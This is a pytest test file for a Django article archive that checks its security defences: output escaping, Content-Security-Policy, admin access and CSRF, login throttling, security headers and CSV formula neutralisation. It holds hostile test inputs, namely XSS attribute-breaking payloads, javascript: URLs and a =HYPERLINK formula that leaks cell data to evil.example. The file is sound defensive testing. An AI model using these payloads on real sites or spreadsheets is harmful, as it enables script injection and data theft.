"""Safe by default (issue 10): each table row is one finding a security review would report.

- escaping: markup in any stored field or in the URL never reaches a page, feed, API answer
  or admin page as markup (the hostile rows are made below, and in tests/conftest.py)
- pages keep to the Content-Security-Policy: no inline script or style, no javascript: URL
- anonymous users never reach an admin page; every admin POST needs a CSRF token
- HEAD is answered on every GET view, POST refused on public pages
- security headers on public pages and the admin
- admin logins are throttled per address and per user name (django-axes)
- the CSV export never hands a spreadsheet a formula

The settings' refusals (DEBUG=2, weak keys, no ALLOWED_HOSTS) and the deploy check are in
tests/test_project.py: they run `manage.py` in a subprocess.
"""

import csv
import datetime as dt
import io
import json
from urllib.parse import quote, urlsplit

import pytest
from bs4 import BeautifulSoup
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.core.management import call_command
from django.db.models import F
from django.test import Client
from django.urls import get_resolver, resolve, reverse

from archive import models as m
from archive.views.exports import csv_cell

from .markup import response_text
from .spec import BOLD, FACIAL, HOSTILE_QUERIES, IMG, RAW_MARKUP, SCRIPT, article_url

# Leaves an HTML attribute, then runs: what a value reflected into value="..." must survive.
ATTR_BREAK = '"><script>alert(1)</script>'
ATTR_BREAK_SINGLE = "'><img src=x onerror=alert(2)>"
# What a hostile payload looks like once escaped, in HTML/XML (&lt;) or in our JSON (\u003c).
ESCAPED = ("&lt;script&gt;", "&lt;img src=x", "&lt;b&gt;", "\\u003cscript", "\\u003cimg")


@pytest.fixture(autouse=True)
def fast_tests(settings):
    """An editor's change that asks for a relink runs it at once, in the test's transaction;
    passwords hash fast (Django's PBKDF2 takes a second per login on a slow machine)."""
    settings.RELINK_RUNNER = "inline"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# -- hostile data ------------------------------------------------------------------------------
@pytest.fixture
def evil(hostile):
    """Besides the `hostile` article (tests/conftest.py): a contractor, a sub-agency of ICE and
    a program whose names, aliases, descriptions, relationship and status are all markup, all
    named by the hostile article; a candidate, suppression, redirect and relink job of markup
    for the admin. Returns the contractor."""
    ice = m.Agency.objects.get(slug="ice")
    first_sentence = hostile.body.split("\n", 1)[0]
    contractor = m.Contractor.objects.create(
        name=f"Evil {SCRIPT} Corp",
        slug="evil-corp",
        acronym=BOLD,
        description=f"Sells {IMG} to {SCRIPT} agencies",
    )
    m.Alias.objects.create(entity=contractor, name=ATTR_BREAK)
    m.Alias.objects.create(entity=contractor, name=ATTR_BREAK_SINGLE)
    office = m.Agency.objects.create(
        name=f"Office of {IMG}", slug="office-of-img", parent=ice, description=SCRIPT
    )
    program = m.Program.objects.create(
        name=f"Program {SCRIPT}", slug="hostile-program", status="active", description=IMG
    )
    m.ProgramStatus.objects.create(
        program=program,
        status="active",
        year=2023,
        note=f"note {SCRIPT}",
        article=hostile,
        quote=first_sentence,
    )
    m.Relationship.objects.create(
        subject=contractor,
        kind=m.Relationship.Kind.SELLS_TO,
        object=ice,
        article=hostile,
        quote=first_sentence,
        amount=f"$1 {BOLD}",
        period=IMG,
    )
    m.Relationship.objects.create(
        subject=office,
        kind=m.Relationship.Kind.USES,
        object=program,
        article=hostile,
        quote=first_sentence,
    )
    for entity in (contractor, office, program):
        m.Mention.objects.create(article=hostile, entity=entity, count=0, spans=[])
    m.Candidate.objects.create(
        name=f"Candidate {SCRIPT}",
        key="candidate-script",
        acronym=BOLD,
        reason=m.Candidate.Reason.COMPANY,
        article=hostile,
        passage=f"passage {IMG}",
    )
    m.Suppression.objects.create(what=m.Suppression.What.ENTITY, key=SCRIPT)
    m.EntityRedirect.objects.create(old_slug="evil-old", entity=contractor)
    m.RelinkJob.objects.create(reason=f"reason {SCRIPT}", result=IMG)
    return contractor


# -- escaping ----------------------------------------------------------------------------------
def body_of(response) -> str:
    """The answer's text, streamed (an export of the whole archive) or not."""
    if response.streaming:
        return b"".join(response.streaming_content).decode()
    return response.content.decode()


def assert_inert(response):
    """No payload in `response` can run: HTML, XML and JSON carry it escaped; CSV and plain
    text carry it as data, in a type no browser renders (nosniff: none guesses otherwise)."""
    kind = response["Content-Type"].split(";")[0].strip()
    body = body_of(response)
    if kind in ("text/csv", "text/plain"):
        assert response["X-Content-Type-Options"] == "nosniff"
        return
    # JSON Lines: JSON, whose encoder never writes a raw <, > or &.
    assert kind in (
        "text/html",
        "application/json",
        "application/atom+xml",
        "application/x-ndjson",
    ), kind
    for markup in RAW_MARKUP:
        assert markup not in body, markup


def assert_shown_escaped(response):
    """The page did show a payload (escaped): the test is not passing on an empty page."""
    body = response.content.decode()
    assert any(e in body for e in ESCAPED), body[:500]


def q(text: str) -> str:
    return quote(text, safe="")


# (url, status, shows a payload); every public view, with hostile stored data and hostile input.
PUBLIC_HOSTILE = [
    ("/", 200, True),
    ("/search/", 200, True),
    ("/search/?q=alert", 200, True),
    ("/search/?q=hostile", 200, True),
    (f"/search/?q={q(SCRIPT)}", 200, True),
    (f"/search/?q={q(ATTR_BREAK)}", 200, True),
    (f"/search/?q={q(ATTR_BREAK_SINGLE)}", 200, True),
    (f"/search/?q=hostile&publication={q('Pub ' + SCRIPT)}", 200, True),
    ("/search/?contractor=evil-corp", 200, True),
    ("/search/?program=hostile-program", 200, True),
    ("/search/?agency=office-of-img&sort=oldest", 200, True),
    (f"/search/?agency={q(SCRIPT)}", 400, True),
    (f"/search/?contractor={q(ATTR_BREAK)}", 400, True),
    (f"/search/?published_after={q(SCRIPT)}", 400, False),
    (f"/search/?sort={q(ATTR_BREAK)}", 400, True),
    (f"/search/?page={q(SCRIPT)}", 400, False),
    (f"/search/help/?q={q(SCRIPT)}", 200, False),
    ("/articles/hostile/", 200, True),
    ("/agencies/", 200, True),
    ("/contractors/", 200, True),
    ("/programs/", 200, True),
    ("/agencies/ice/", 200, True),
    ("/agencies/office-of-img/", 200, True),
    ("/contractors/evil-corp/", 200, True),
    ("/programs/wickr/", 200, True),
    ("/programs/hostile-program/", 200, True),
    (f"/nowhere/{q(SCRIPT)}/", 404, False),
    ("/feed/", 200, True),
    ("/agencies/ice/feed/", 200, True),
    ("/contractors/evil-corp/feed/", 200, True),
    ("/programs/hostile-program/feed/", 200, True),
    ("/api/articles/", 200, True),
    ("/api/articles/hostile/", 200, True),
    ("/api/search/?q=alert", 200, True),
    (f"/api/search/?q={q(SCRIPT)}", 200, True),
    (f"/api/search/?q=hostile&publication={q('Pub ' + SCRIPT)}", 200, True),
    ("/api/search/?contractor=evil-corp", 200, True),
    (f"/api/search/?agency={q(SCRIPT)}", 400, True),
    (f"/api/search/?published_before={q(ATTR_BREAK)}", 400, False),
    ("/api/entities/", 200, True),
    ("/api/entities/?kind=contractor", 200, True),
    (f"/api/entities/?kind={q(SCRIPT)}", 400, False),
    ("/api/entities/contractor/evil-corp/", 200, True),
    ("/api/entities/agency/ice/", 200, True),
    ("/api/entities/agency/office-of-img/", 200, True),
    ("/api/entities/program/hostile-program/", 200, True),
    ("/search/export.csv?q=alert", 200, False),
    ("/search/export.csv?contractor=evil-corp", 200, False),
    (f"/search/export.csv?agency={q(SCRIPT)}", 400, False),
    ("/exports/entities.csv", 200, False),
    ("/exports/relationships.csv", 200, False),
    ("/exports/articles.jsonl", 200, False),
]


@pytest.mark.parametrize(
    "url, status, shows", PUBLIC_HOSTILE, ids=[r[0][:70] for r in PUBLIC_HOSTILE]
)
def test_public_pages_never_carry_live_markup(client, evil, url, status, shows):
    response = client.get(url)
    assert response.status_code == status
    assert_inert(response)
    if shows:
        assert_shown_escaped(response)


@pytest.mark.parametrize(
    "text", [pytest.param(t, id=ascii(t)[:30]) for t in HOSTILE_QUERIES if set(t) & set("<&\"'")]
)
@pytest.mark.parametrize("url", ["/search/", "/search/help/", "/api/search/"])
def test_hostile_queries_reflected_inert(client, hostile, url, text):
    response = client.get(url, {"q": text})
    assert response.status_code == 200
    assert_inert(response)
    # The search box shows the query as typed, in a quoted attribute it cannot leave.
    if url == "/search/" and text.strip():
        box = BeautifulSoup(response.content, "html.parser").select_one("#site-q")
        assert box["value"] == text


@pytest.mark.parametrize(
    "url, field, value",
    [
        ("/api/articles/hostile/", "title", f"Hostile {SCRIPT} title"),
        ("/api/articles/hostile/", "publication", f"Pub {SCRIPT}"),
        ("/api/entities/contractor/evil-corp/", "name", f"Evil {SCRIPT} Corp"),
        ("/api/entities/contractor/evil-corp/", "aliases", [ATTR_BREAK_SINGLE, ATTR_BREAK]),
        ("/api/entities/program/hostile-program/", "status_history.0.note", f"note {SCRIPT}"),
        ("/api/entities/contractor/evil-corp/", "relationships.0.amount", f"$1 {BOLD}"),
    ],
)
def test_api_escapes_bytes_not_values(client, evil, url, field, value):
    """JSON escapes <, > and & as \\u003c...: the bytes are inert, the decoded value exact."""
    data = json.loads(client.get(url).content)
    for key in field.split("."):
        data = data[int(key)] if key.isdigit() else data[key]
    assert sorted(data) == sorted(value) if isinstance(value, list) else data == value


def test_csv_export_keeps_the_text_as_data(client, evil):
    """A CSV is data, not a page: markup stays as written, served as a download nobody
    renders (text/csv, attachment, nosniff)."""
    response = client.get("/search/export.csv?contractor=evil-corp")
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.DictReader(io.StringIO(response_text(response), newline="")))
    assert [r["title"] for r in rows] == [f"Hostile {SCRIPT} title"]
    assert BOLD in rows[0]["contractors"].split("; ")  # the evil contractor's acronym


def test_article_source_url_is_never_a_javascript_link(client, seeded):
    m.Article.objects.create(
        title="JS link", slug="js-link", body="text", source_url="javascript:alert(1)"
    )
    page = client.get("/articles/js-link/").content.decode()
    assert "javascript:" not in page


# -- the admin: every change list, change form and custom page escapes ---------------------------
def admin_url(model, view, *args):
    return reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_{view}", args=args)


ARCHIVE_MODELS = [
    m.Article,
    m.Entity,
    m.Agency,
    m.Contractor,
    m.Program,
    m.Alias,
    m.Mention,
    m.Relationship,
    m.ProgramStatus,
    m.Candidate,
    m.EntityRedirect,
    m.Suppression,
    m.RelinkJob,
]


def hostile_object(model):
    """The row of `model` made of markup (the `evil` fixture)."""
    return {
        m.Article: lambda: m.Article.objects.get(slug="hostile"),
        m.Entity: lambda: m.Entity.objects.get(slug="evil-corp"),
        m.Agency: lambda: m.Agency.objects.get(slug="office-of-img"),
        m.Contractor: lambda: m.Contractor.objects.get(slug="evil-corp"),
        m.Program: lambda: m.Program.objects.get(slug="hostile-program"),
        m.Alias: lambda: m.Alias.objects.get(name=ATTR_BREAK),
        m.Mention: lambda: m.Mention.objects.get(article__slug="hostile", entity__slug="evil-corp"),
        m.Relationship: lambda: m.Relationship.objects.get(subject__slug="evil-corp"),
        m.ProgramStatus: lambda: m.ProgramStatus.objects.get(program__slug="hostile-program"),
        m.Candidate: lambda: m.Candidate.objects.get(key="candidate-script"),
        m.EntityRedirect: lambda: m.EntityRedirect.objects.get(old_slug="evil-old"),
        m.Suppression: lambda: m.Suppression.objects.get(key=SCRIPT),
        m.RelinkJob: lambda: m.RelinkJob.objects.get(result=IMG),
    }[model]()


@pytest.mark.parametrize("model", ARCHIVE_MODELS, ids=lambda m: m.__name__)
@pytest.mark.parametrize("view", ["changelist", "search", "change", "delete"])
def test_admin_pages_escape(admin_client, evil, model, view):
    obj = hostile_object(model)
    if view == "changelist":
        response = admin_client.get(admin_url(model, "changelist"))
    elif view == "search":
        response = admin_client.get(admin_url(model, "changelist"), {"q": ATTR_BREAK})
    else:
        response = admin_client.get(admin_url(model, view, obj.pk), follow=True)
    assert response.status_code in (200, 403)
    assert_inert(response)
    # (A redirect's delete page names it by its slugs only.)
    if response.status_code == 200 and (model, view) != (m.EntityRedirect, "delete"):
        assert_shown_escaped(response)


def test_admin_autocomplete_answers_data(admin_client, evil):
    """The admin's own autocomplete answers names as JSON data (Django does not escape < in
    it as our API does): inert as application/json with nosniff; Select2 escapes it when it
    draws the choices."""
    response = admin_client.get(
        reverse("admin:autocomplete"),
        {
            "app_label": "archive",
            "model_name": "relationship",
            "field_name": "subject",
            "term": "Evil",
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert [r["text"] for r in response.json()["results"]] == [str(evil)]


def test_admin_merge_page_escapes(admin_client, evil):
    response = admin_client.post(
        admin_url(m.Contractor, "changelist"),
        {
            "action": "merge_selected",
            "_selected_action": [evil.pk, m.Contractor.objects.get(slug="amazon").pk],
        },
    )
    assert response.status_code == 200
    assert "merge-confirmation" in response.content.decode()
    assert_inert(response)
    assert_shown_escaped(response)


def test_admin_messages_escape(admin_client, admin_user, evil):
    """Names reach the editor in messages too: an action's result, a finished relink."""
    m.RelinkJob.objects.create(
        reason=SCRIPT, result=f"done {IMG}", status=m.RelinkJob.Status.DONE, requested_by=admin_user
    )
    response = admin_client.post(
        admin_url(m.Contractor, "changelist"),
        {"action": "mark_reviewed", "_selected_action": [evil.pk]},
        follow=True,
    )
    assert response.status_code == 200
    body = response.content.decode()
    assert "done &lt;img src=x" in body  # the relink job's message
    assert_inert(response)


def test_axes_admin_escapes_attackers_user_names(admin_client, seeded):
    """django-axes records what an attacker typed as user name; its admin shows it as text."""
    Client().post(reverse("admin:login"), {"username": ATTR_BREAK, "password": "x"})
    from axes.models import AccessAttempt

    attempt = AccessAttempt.objects.get(username=ATTR_BREAK)
    for url in (
        admin_url(AccessAttempt, "changelist"),
        admin_url(AccessAttempt, "change", attempt.pk),
    ):
        response = admin_client.get(url)
        assert response.status_code == 200
        assert_inert(response)
        assert_shown_escaped(response)


# -- the Content-Security-Policy: nothing on a page it would block ------------------------------
def csp_violations(html: str) -> list[str]:
    """What script-src/style-src 'self' (no 'unsafe-inline') blocks: inline <script> and
    <style>, style="" and on*="" attributes, javascript: URLs."""
    found = []
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        if tag.name == "script" and not tag.get("src"):
            if tag.get("type") not in ("application/json", "application/ld+json"):
                found.append(str(tag)[:120])
        if tag.name == "style":
            found.append(str(tag)[:120])
        for name, value in tag.attrs.items():
            value = " ".join(value) if isinstance(value, list) else value
            if name == "style" or name.startswith("on"):
                found.append(f"<{tag.name} {name}={value!r}>")
            if name in ("href", "src", "action", "formaction") and value.strip().lower().startswith(
                "javascript:"
            ):
                found.append(f"<{tag.name} {name}={value!r}>")
    return found


CSP_PUBLIC = [
    "/",
    "/search/?q=ICE",
    "/search/?q=zzzzqqq&agency=hsi",
    "/search/help/",
    article_url(FACIAL),
    "/articles/hostile/",
    "/agencies/",
    "/agencies/ice/",
    "/contractors/evil-corp/",
    "/programs/hostile-program/",
    "/nowhere/",
    "/search/?sort=sideways",
]


@pytest.mark.parametrize("url", CSP_PUBLIC)
def test_public_pages_keep_to_the_csp(client, evil, url):
    response = client.get(url)
    assert response["Content-Type"].startswith("text/html")
    assert csp_violations(response.content.decode()) == []


ADMIN_PAGES = ["index", "app_list", "changelist", "add", "change", "delete", "history"]


@pytest.mark.parametrize("model", ARCHIVE_MODELS, ids=lambda m: m.__name__)
@pytest.mark.parametrize("view", ADMIN_PAGES[2:])
def test_admin_pages_keep_to_the_csp(admin_client, evil, model, view):
    args = [] if view in ("changelist", "add") else [hostile_object(model).pk]
    response = admin_client.get(admin_url(model, view, *args), follow=True)
    if response.status_code == 403:
        return  # no add or delete for this model: nothing rendered
    assert response.status_code == 200
    assert csp_violations(response.content.decode()) == []


@pytest.mark.parametrize(
    "url",
    [
        "admin:index",
        "admin:login",
        "admin:password_change",
        "merge",
        "admin:archive_article_change:javascript",
    ],
)
def test_other_admin_pages_keep_to_the_csp(client, admin_user, evil, url):
    if url != "admin:login":
        client.force_login(admin_user)
    if url == "merge":
        response = client.post(
            admin_url(m.Contractor, "changelist"),
            {
                "action": "merge_selected",
                "_selected_action": [evil.pk, m.Contractor.objects.get(slug="amazon").pk],
            },
        )
    elif url.endswith(":javascript"):
        # The URL field's "Currently:" link is only drawn for a valid (http) address.
        article = m.Article.objects.create(
            title="JS", slug="js", body="text", source_url="javascript:alert(1)"
        )
        response = client.get(admin_url(m.Article, "change", article.pk))
    else:
        response = client.get(reverse(url))
    assert response.status_code == 200
    assert csp_violations(response.content.decode()) == []


# -- anonymous users never reach the admin -------------------------------------------------------
REGISTERED = sorted(admin.site._registry, key=lambda m: (m._meta.app_label, m._meta.model_name))


def pk_of(model):
    return model._default_manager.values_list("pk", flat=True).first() or 1


def login_redirect(response) -> bool:
    return response.status_code == 302 and urlsplit(response["Location"]).path == reverse(
        "admin:login"
    )


@pytest.mark.parametrize("model", REGISTERED, ids=lambda m: m._meta.label)
@pytest.mark.parametrize("view", ["changelist", "add", "change", "delete", "history"])
def test_anonymous_never_reaches_a_model_admin(client, evil, model, view):
    args = [] if view in ("changelist", "add") else [pk_of(model)]
    url = admin_url(model, view, *args)
    for response in (client.get(url), client.post(url, {"post": "yes"})):
        assert login_redirect(response) or response.status_code == 403, (url, response)


@pytest.mark.parametrize(
    "name, args",
    [
        ("admin:index", []),
        ("admin:app_list", ["archive"]),
        ("admin:app_list", ["auth"]),
        ("admin:app_list", ["axes"]),
        ("admin:password_change", []),
        ("admin:password_change_done", []),
        ("admin:autocomplete", []),
        ("admin:jsi18n", []),
        ("admin:view_on_site", [1, 1]),
    ],
)
def test_anonymous_never_reaches_an_admin_page(client, seeded, name, args):
    response = client.get(reverse(name, args=args))
    assert login_redirect(response) or response.status_code == 403


def test_anonymous_never_reaches_the_merge_page(client, evil):
    response = client.post(
        admin_url(m.Contractor, "changelist"),
        {"action": "merge_selected", "_selected_action": [evil.pk, pk_of(m.Contractor)]},
    )
    assert login_redirect(response)
    assert m.Contractor.objects.filter(pk=evil.pk).exists()


# -- CSRF: every state-changing request needs a token -------------------------------------------
@pytest.fixture
def csrf_client(admin_user):
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    return client


def csrf_refused(response) -> bool:
    return response.status_code == 403 and b"CSRF" in response.content


@pytest.mark.parametrize("model", REGISTERED, ids=lambda m: m._meta.label)
@pytest.mark.parametrize("view", ["add", "change", "delete", "action"])
def test_admin_posts_need_a_csrf_token(csrf_client, seeded, model, view):
    if view == "action":
        url = admin_url(model, "changelist")
        data = {"action": "delete_selected", "_selected_action": [pk_of(model)], "post": "yes"}
    else:
        url = admin_url(model, view, *([] if view == "add" else [pk_of(model)]))
        data = {"post": "yes"}
    assert csrf_refused(csrf_client.post(url, data))


@pytest.mark.parametrize(
    "url, data",
    [
        ("admin:login", {"username": "admin", "password": "password"}),
        ("admin:logout", {}),
        ("admin:password_change", {"old_password": "password", "new_password1": "x"}),
        ("merge", {"action": "merge_selected", "post": "yes"}),
    ],
)
def test_admin_forms_need_a_csrf_token(csrf_client, evil, url, data):
    if url == "merge":
        url = admin_url(m.Contractor, "changelist")
        data = {**data, "_selected_action": [evil.pk, pk_of(m.Contractor)]}
    else:
        url = reverse(url)
    assert csrf_refused(csrf_client.post(url, data))
    assert m.Contractor.objects.filter(pk=evil.pk).exists()


def test_admin_action_with_a_csrf_token_succeeds(csrf_client, seeded):
    ice = m.Agency.objects.get(slug="ice")
    m.Agency.objects.filter(pk=ice.pk).update(reviewed=False)
    url = admin_url(m.Agency, "changelist")
    data = {"action": "mark_reviewed", "_selected_action": [ice.pk]}

    assert csrf_refused(csrf_client.post(url, data))
    ice.refresh_from_db()
    assert not ice.reviewed

    csrf_client.get(url)  # sets the CSRF cookie, as the browser's visit would
    token = csrf_client.cookies["csrftoken"].value
    response = csrf_client.post(url, {**data, "csrfmiddlewaretoken": token})
    assert response.status_code == 302
    ice.refresh_from_db()
    assert ice.reviewed


def test_admin_delete_with_a_csrf_token_succeeds(csrf_client, seeded):
    redirect = m.EntityRedirect.objects.create(old_slug="old-ice", entity=m.Entity.objects.first())
    url = admin_url(m.EntityRedirect, "delete", redirect.pk)
    assert csrf_refused(csrf_client.post(url, {"post": "yes"}))
    assert m.EntityRedirect.objects.filter(pk=redirect.pk).exists()

    csrf_client.get(url)
    token = csrf_client.cookies["csrftoken"].value
    response = csrf_client.post(url, {"post": "yes", "csrfmiddlewaretoken": token})
    assert response.status_code == 302
    assert not m.EntityRedirect.objects.filter(pk=redirect.pk).exists()


# -- methods: HEAD on every GET view, no POST on public pages -----------------------------------
GET_VIEWS = {
    "home": "/",
    "healthz": "/healthz",
    "search": "/search/?q=ICE",
    "search-help": "/search/help/",
    "search-export": "/search/export.csv?q=ICE",
    "article": article_url(FACIAL),
    "entity-index": "/agencies/",
    "entity": "/agencies/ice/",
    "feed": "/feed/",
    "entity-feed": "/agencies/ice/feed/",
    "api-articles": "/api/articles/",
    "api-article": f"/api/articles/{FACIAL}/",
    "api-search": "/api/search/?q=ICE",
    "api-entities": "/api/entities/",
    "api-entity": "/api/entities/agency/ice/",
    "article-cite": f"/articles/{FACIAL}/cite.bib",
    "robots": "/robots.txt",
    "favicon": "/favicon.ico",
    "sitemap-index": "/sitemap.xml",
    "sitemap-section": "/sitemap-articles.xml",
    "export-entities": "/exports/entities.csv",
    "export-relationships": "/exports/relationships.csv",
    "export-articles": "/exports/articles.jsonl",
    "search-feed": "/search/feed/?q=ICE",
    "search-export-jsonl": "/search/export.jsonl?q=ICE",
    "entity-articles": "/agencies/ice/articles.csv",
    "data": "/data/",
    "map": "/map/",
    "timeline": "/timeline/",
}


def test_every_public_view_is_in_the_method_table():
    """A new public URL joins GET_VIEWS (and so the HEAD, POST and header tests)."""
    public = {p.name for p in get_resolver().url_patterns if getattr(p, "name", None) is not None}
    assert public == set(GET_VIEWS)
    assert {resolve(urlsplit(u).path).url_name for u in GET_VIEWS.values()} == set(GET_VIEWS)


@pytest.mark.parametrize("url", GET_VIEWS.values(), ids=GET_VIEWS.keys())
def test_head_is_answered(client, seeded, url):
    get = client.get(url)
    head = client.head(url)
    assert head.status_code == get.status_code == 200
    assert head.content == b""
    assert head["Content-Type"] == get["Content-Type"]


@pytest.mark.parametrize(
    "url",
    [pytest.param(u, id=name) for name, u in GET_VIEWS.items()],
)
@pytest.mark.parametrize("method", ["post", "put", "patch", "delete"])
def test_public_pages_refuse_writes(client, seeded, url, method):
    response = getattr(client, method)(url)
    assert response.status_code == 405
    assert set(response["Allow"].replace(" ", "").split(",")) == {"GET", "HEAD"}


# -- headers -----------------------------------------------------------------------------------
def csp_directives(header: str) -> dict[str, list[str]]:
    out = {}
    for part in header.split(";"):
        if part.strip():
            name, *values = part.split()
            out[name] = values
    return out


HEADER_PAGES = [
    *GET_VIEWS.values(),
    "/nowhere/",
    "/search/?sort=sideways",
    "admin:login",
    "admin:index",
    "admin:archive_article_changelist",
]


@pytest.mark.parametrize("url", HEADER_PAGES)
def test_security_headers(client, admin_user, seeded, url):
    if url.startswith("admin:"):
        if url != "admin:login":
            client.force_login(admin_user)
        url = reverse(url)
    response = client.get(url)
    assert response.status_code in (200, 400, 404)

    csp = response["Content-Security-Policy"]
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    directives = csp_directives(csp)
    assert directives["default-src"] == ["'self'"]
    assert directives["script-src"] == ["'self'"]
    assert directives["style-src"] == ["'self'"]
    assert directives["object-src"] == ["'none'"]
    assert directives["base-uri"] == ["'none'"]
    assert directives["frame-ancestors"] == ["'none'"]
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Frame-Options"] == "DENY"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"


# -- login throttling (django-axes) ------------------------------------------------------------
PASSWORD = "the-right-password-7"


@pytest.fixture
def editor(db):
    return get_user_model().objects.create_superuser("editor", "editor@example.org", PASSWORD)


def test_session_and_csrf_cookies_are_http_only(editor):
    """Script on a page could not read them (Secure is production's: tests/test_project.py)."""
    client = Client()
    response = client.get(reverse("admin:login"))
    assert response.cookies["csrftoken"]["httponly"]
    response = client.post(reverse("admin:login"), {"username": "editor", "password": PASSWORD})
    assert response.status_code == 302
    assert response.cookies["sessionid"]["httponly"]
    assert response.cookies["sessionid"]["samesite"] == "Lax"


def log_in(username, password, address="10.0.0.1", **headers):
    """A fresh browser at `address` posts the admin login form; whether it is now logged in."""
    client = Client(REMOTE_ADDR=address, **headers)
    response = client.post(
        reverse("admin:login"),
        {"username": username, "password": password, "next": reverse("admin:index")},
    )
    logged_in = "_auth_user_id" in client.session
    assert logged_in == (response.status_code == 302), response.status_code
    return logged_in


def fail(times, *, usernames=("editor",), addresses=("10.0.0.1",)):
    """`times` wrong passwords, cycling through the user names and addresses given."""
    for n in range(times):
        assert not log_in(usernames[n % len(usernames)], "wrong", addresses[n % len(addresses)])


@pytest.mark.parametrize(
    "failures, then, allowed",
    [
        # 5 failures lock the user name at that address: the right password is refused.
        (lambda: fail(5), ("editor", "10.0.0.1"), False),
        # 4 are not enough.
        (lambda: fail(4), ("editor", "10.0.0.1"), True),
        # Per user name: 5 failures from 5 addresses lock the name wherever it logs in from.
        (
            lambda: fail(5, addresses=[f"10.0.1.{n}" for n in range(5)]),
            ("editor", "10.0.2.1"),
            False,
        ),
        # Per address: 5 failures from one address under 5 names lock that address...
        (lambda: fail(5, usernames=[f"guess{n}" for n in range(5)]), ("editor", "10.0.0.1"), False),
        # ...and only that address.
        (lambda: fail(5, usernames=[f"guess{n}" for n in range(5)]), ("editor", "10.0.0.2"), True),
    ],
    ids=[
        "same-name-same-address",
        "four-failures",
        "name-from-many-addresses",
        "address-under-many-names",
        "another-address",
    ],
)
def test_login_throttling(editor, failures, then, allowed):
    failures()
    assert log_in(then[0], PASSWORD, then[1]) is allowed


def test_locked_out_answer_is_429(editor):
    fail(5)
    response = Client(REMOTE_ADDR="10.0.0.1").post(
        reverse("admin:login"), {"username": "editor", "password": PASSWORD}
    )
    assert response.status_code == 429


def test_axes_reset_lifts_the_lock(editor):
    fail(5)
    assert not log_in("editor", PASSWORD)
    call_command("axes_reset", stdout=io.StringIO())
    assert log_in("editor", PASSWORD)


def test_lock_lasts_fifteen_minutes(editor):
    from axes.models import AccessAttempt

    fail(5)
    AccessAttempt.objects.update(attempt_time=F("attempt_time") - dt.timedelta(minutes=14))
    assert not log_in("editor", PASSWORD)  # (a refused attempt starts the 15 minutes again)
    AccessAttempt.objects.update(attempt_time=F("attempt_time") - dt.timedelta(minutes=16))
    assert log_in("editor", PASSWORD)


def test_success_resets_the_count(editor):
    fail(4)
    assert log_in("editor", PASSWORD)
    fail(4)
    assert log_in("editor", PASSWORD)


def test_behind_the_proxy_an_attacker_locks_out_only_their_own_address(editor):
    proxy = {"address": "127.0.0.1"}
    for n in range(5):
        assert not log_in(f"guess{n}", "wrong", **proxy, HTTP_X_FORWARDED_FOR="203.0.113.5")
    assert log_in("editor", PASSWORD, **proxy, HTTP_X_FORWARDED_FOR="198.51.100.7")


# -- CSV export: no formula reaches a spreadsheet ----------------------------------------------
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    "value, cell",
    [
        (HYPERLINK, "'" + HYPERLINK),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("=", "'="),
        ("ICE buys = data", "ICE buys = data"),
        ("Ordinary title", "Ordinary title"),
        ("", ""),
        (None, ""),
        (dt.date(2023, 1, 2), "2023-01-02"),
    ],
)
def test_csv_cell(value, cell):
    assert csv_cell(value) == cell


@pytest.mark.parametrize(
    "column, value, cell",
    [
        ("title", HYPERLINK, "'" + HYPERLINK),
        ("publication", "@SUM(1+1)", "'@SUM(1+1)"),
        ("title", "+1", "'+1"),
        ("title", "-1", "'-1"),
        ("title", "\tx", "'\tx"),
        ("title", "\rx", "'\rx"),
        ("contractors", "=1+2", "'=1+2"),
        ("title", "An ordinary title", "An ordinary title"),
    ],
)
def test_csv_export_neutralises_formulas(client, seeded, column, value, cell):
    article = m.Article.objects.create(
        title=value if column == "title" else "Formula row",
        slug="formula-row",
        body="Formula row text.",
        publication=value if column == "publication" else "Pub",
        published=dt.date(2030, 1, 1),  # newest: the export's first row
    )
    if column == "contractors":
        contractor = m.Contractor.objects.create(name=value, slug="formula-corp")
        m.Mention.objects.create(article=article, entity=contractor, count=0, spans=[])
    response = client.get("/search/export.csv?sort=newest")
    rows = list(csv.DictReader(io.StringIO(response_text(response), newline="")))
    (row,) = [r for r in rows if r["archive_url"].endswith("/articles/formula-row/")]
    assert row[column] == cell
    # Nothing else in the export starts a formula either.
    for r in rows:
        for v in r.values():
            assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), v
